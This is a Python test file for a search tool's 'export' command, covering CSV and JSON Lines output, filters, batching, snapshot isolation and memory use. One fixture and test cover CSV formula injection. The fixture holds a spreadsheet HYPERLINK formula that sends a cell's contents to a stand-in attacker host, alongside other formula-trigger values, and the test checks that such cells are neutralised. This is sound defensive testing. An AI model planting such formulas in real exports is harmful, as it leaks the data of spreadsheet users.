"""`searcher export` and export.Export: every match (not one page) in ranked order, as
CSV or JSON Lines with the chosen fields, the same filters as a search."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from searcher import Filters, build_index, open_index
from searcher.cli import main
from searcher.export import Export

from .conftest import write_jsonl

ARTICLES = [
    {"id": f"a{n}", "title": f"Oil report {n}", "body": f"Crude oil prices moved {n} points.",
     "tags": ["energy", "crude"] if n % 2 else ["energy"], "authors": ["Jane Roe"],
     "published": f"2020-10-{n + 1:02d}", "url": f"https://example.com/{n}"}
    for n in range(25)
] + [
    {"id": "quote,\"line", "title": "Oil, \"quoted\"\nsecond line", "body": "oil =1+1",
     "tags": ["a;b", "c"], "published": "2019-01-01"},
    {"id": "other", "title": "Wheat", "body": "Grain harvest.", "tags": ["grain"]},
]


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("export")
    build_index([write_jsonl(root / "a.jsonl", ARTICLES)], index=root / "ix")
    return root / "ix"


def run(index: Path, *args: str) -> str:
    result = CliRunner().invoke(main, ["export", "--index", str(index), *args])
    assert result.exit_code == 0, result.output
    return result.stdout_bytes.decode("utf-8")


def test_csv_has_every_match_in_ranked_order(index: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(run(index, "oil"))))
    with open_index(index) as ix:
        results = ix.search("oil", limit=100, collapse=False)  # exports keep every copy
    assert results.total == 26
    assert [r["id"] for r in rows] == [h.id for h in results.hits]
    assert list(rows[0]) == ["id", "published", "title", "source", "authors", "tags", "url",
                             "score"]
    quoted = next(r for r in rows if r["id"] == 'quote,"line')
    assert quoted["title"] == 'Oil, "quoted"\nsecond line'  # quoted by CSV, not altered
    assert quoted["tags"] == "a;b; c"
    assert quoted["published"] == "2019-01-01T00:00:00"
    assert float(rows[0]["score"]) >= float(rows[-1]["score"]) > 0


def test_jsonl_chosen_fields_filters_and_sort(index: Path) -> None:
    out = run(index, "oil", "--tag", "crude", "--sort", "oldest", "--format", "jsonl",
              "--fields", "id,tags,body,rank,score")
    rows = [json.loads(line) for line in out.splitlines()]
    assert [r["id"] for r in rows] == [f"a{n}" for n in range(1, 25, 2)]
    assert rows[0] == {"id": "a1", "tags": ["energy", "crude"],
                       "body": "Crude oil prices moved 1 points.", "rank": 1, "score": None}
    assert [r["rank"] for r in rows] == list(range(1, 13))


def test_every_article_and_an_empty_result(index: Path) -> None:
    everything = run(index, "*", "--format", "jsonl", "--fields", "id")
    assert sorted(json.loads(line)["id"] for line in everything.splitlines()) == sorted(
        a["id"] for a in ARTICLES)
    assert run(index, "nosuchword") == "id,published,title,source,authors,tags,url,score\r\n"
    assert run(index, "nosuchword", "--format", "jsonl") == ""


def test_output_file(index: Path, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    result = CliRunner().invoke(main, ["export", "--index", str(index), "grain", "-o",
                                       str(target), "--fields", "id,title"])
    assert result.exit_code == 0, result.output
    assert result.stderr == f"1 matches written to {target}\n"
    assert target.read_bytes() == b"id,title\r\nother,Wheat\r\n"
    assert list(tmp_path.iterdir()) == [target]


def test_batches_add_up_to_the_search(index: Path) -> None:
    """Batches smaller than the result: the rows are the ranked list, each once."""
    with open_index(index) as ix:
        export = Export(ix, "oil", fmt="jsonl", fields="id", batch=4)
        assert export.total == 26
        chunks = list(export)
        ranked = [h.id for h in ix.search("oil", limit=100, collapse=False).hits]
    assert len(chunks) == 7  # ceil(26 / 4): a chunk per batch
    assert [json.loads(line)["id"] for c in chunks for line in c.splitlines()] == ranked
    assert export.rows == 26


def test_a_build_committing_mid_export_changes_nothing_in_it(tmp_path: Path) -> None:
    """One index's export reads the commit it started on: articles a build adds,
    changes or deletes meanwhile neither appear, change nor go missing in it."""
    source = write_jsonl(tmp_path / "c" / "a.jsonl", ARTICLES[:6])
    build_index([source.parent], index=tmp_path / "ix")
    with open_index(tmp_path / "ix") as ix:
        before = {a.id: a.body for a in ix.articles([f"a{n}" for n in range(6)])}
        ranked = [h.id for h in ix.search("oil", limit=100, collapse=False).hits]
        export = Export(ix, "oil", fmt="jsonl", fields="id,body", batch=2)
        rows = iter(export)
        first = next(rows)  # the first batch
        write_jsonl(tmp_path / "c" / "b.jsonl", ARTICLES[6:8])  # two added
        changed = [{**a, "body": "Oil changed."} for a in ARTICLES[2:6]]
        write_jsonl(source, changed)  # a0 and a1 deleted, the rest changed
        build_index([source.parent], index=tmp_path / "ix")
        got = [json.loads(line) for chunk in [first, *rows] for line in chunk.splitlines()]
        assert [r["id"] for r in got] == ranked  # neither new nor missing articles
        assert {r["id"]: r["body"] for r in got} == before  # the bodies of that commit
        assert export.rows == 6
        assert ix.search("oil").total == 6  # the index itself moved on: 4 kept + 2 new
        assert ix.get("a2").body == "Oil changed."


def test_an_unfinished_export_lets_go_of_its_commit(tmp_path: Path) -> None:
    """An export closed before its end (a client gone) closes its pinned reader."""
    source = write_jsonl(tmp_path / "c" / "a.jsonl", ARTICLES[:6])
    build_index([source.parent], index=tmp_path / "ix")
    with open_index(tmp_path / "ix") as ix:
        export = Export(ix, "oil", fmt="jsonl", batch=2)
        pinned = export._ix
        assert pinned is not ix
        rows = iter(export)
        next(rows)
        rows.close()  # what a closed HTTP response does to its body's generator
        assert pinned._newest._searcher is None  # type: ignore[attr-defined]
        assert len(ix.search("oil", limit=1).hits) == 1  # the index is still open


def test_articles_many_at_once_are_get_one_at_a_time(index: Path) -> None:
    ids = ["a3", "other", "nope", 'quote,"line', "a3", "a0"]
    with open_index(index) as ix:
        assert ix.articles(ids) == [None if i == "nope" else ix.get(i) for i in ids]
        assert ix.articles([]) == []


def test_a_filters_value(index: Path) -> None:
    with open_index(index) as ix:
        rows = list(Export(ix, "oil", fmt="jsonl", fields="id", sort="newest",
                           filters=Filters(tags=("crude",), until="2020-10-05")))
    assert [json.loads(line)["id"] for c in rows for line in c.splitlines()] == [
        "a3", "a1"]


def test_reuters_export_count_equals_the_total(reuters_index: Path) -> None:
    out = run(reuters_index, "oil OR prices", "--format", "jsonl", "--fields", "id")
    ids = [json.loads(line)["id"] for line in out.splitlines()]
    with open_index(reuters_index) as ix:
        results = ix.search("oil OR prices", limit=1000, collapse=False)
    assert len(ids) == len(set(ids)) == results.total > 1000
    assert ids[:1000] == [h.id for h in results.hits]


FORMULAS = {"id": "=1+1", "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "body": "-2+3 oil", "tags": ["@SUM(1)", "b"], "source": "+Wire",
            "url": "\uff1d1+1", "published": "2020-01-01"}


@pytest.mark.parametrize("where", ["cli", "api"])
def test_csv_cells_that_would_open_as_formulas_are_guarded(tmp_path: Path, where: str) -> None:
    """A CSV cell starting with = + - @ (tab, CR, LF, or their full-width forms) gets a
    ' before it, so a spreadsheet shows it as text; JSON Lines keep every value exact."""
    build_index([write_jsonl(tmp_path / "a.jsonl", [FORMULAS, {
        "id": "plain", "title": "a=b oil", "body": "oil", "tags": ["x-y"]}])],
        index=tmp_path / "ix")
    fields = "id,title,body,tags,source,url,score,rank"
    if where == "cli":
        text = run(tmp_path / "ix", "oil", "--fields", fields, "--sort", "oldest")
        lines = run(tmp_path / "ix", "oil", "--fields", fields, "--format", "jsonl",
                    "--sort", "oldest")
    else:
        from starlette.testclient import TestClient

        from searcher.serve.app import create_app

        with TestClient(create_app(tmp_path / "ix")) as c:
            params = {"q": "oil", "fields": fields, "sort": "oldest"}
            text = c.get("/api/export", params=params).text
            lines = c.get("/api/export", params={**params, "format": "jsonl"}).text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0] == {"id": "'=1+1", "title": "'" + FORMULAS["title"], "body": "'-2+3 oil",
                       "tags": "'@SUM(1); b", "source": "'+Wire", "url": "'\uff1d1+1",
                       "score": "", "rank": "1"}
    assert rows[1] == {"id": "plain", "title": "a=b oil", "body": "oil", "tags": "x-y",
                       "source": "", "url": "", "score": "", "rank": "2"}
    exact = json.loads(lines.splitlines()[0])
    assert {k: exact[k] for k in ("id", "title", "body", "tags", "source", "url")
            } == {k: v for k, v in FORMULAS.items() if k != "published"}


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("\uff1d1", "'\uff1d1"), ("\uff20A1", "'\uff20A1"),
    ("", ""), ("a=1", "a=1"), (" =1", " =1"), ("'=1", "'=1"), ("1987-03-15", "1987-03-15")])
def test_which_cells_are_guarded(cell: str, written: str) -> None:
    from searcher.export import inert

    assert inert(cell) == written


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads /proc (Linux)")
def test_reuters_exports_with_bodies_in_bounded_memory(reuters_index: Path) -> None:
    """13,328 matches with their bodies (10 MB of JSON Lines) peak no higher than 1,260
    do: the export holds one batch, whatever the number of matches; every row once."""
    import subprocess
    import sys

    code = ("import sys, runpy\nsys.argv = ['searcher', 'export', *sys.argv[1:]]\n"
            "try:\n    runpy.run_module('searcher', run_name='__main__')\nfinally:\n"
            "    peak = [l for l in open('/proc/self/status') if l.startswith('VmHWM')]\n"
            "    sys.stderr.write(peak[0].split()[1])\n")
    peaks, counts = [], []
    for query in ("tag:crude OR tag:grain", "tag:usa OR tag:earn"):
        done = subprocess.run([sys.executable, "-c", code, "--index", str(reuters_index),
                               "--format", "jsonl", "--fields", "id,body", query],
                              capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        ids = [json.loads(line)["id"] for line in done.stdout.splitlines()]
        with open_index(reuters_index) as ix:
            assert len(ids) == len(set(ids)) == ix.search(query, limit=1).total
        peaks.append(int(done.stderr.split()[-1]))
        counts.append(len(ids))
    assert counts == [1260, 13328]
    assert peaks[1] - peaks[0] < 16 * 1024, peaks  # KB: one batch, not 10 MB of rows
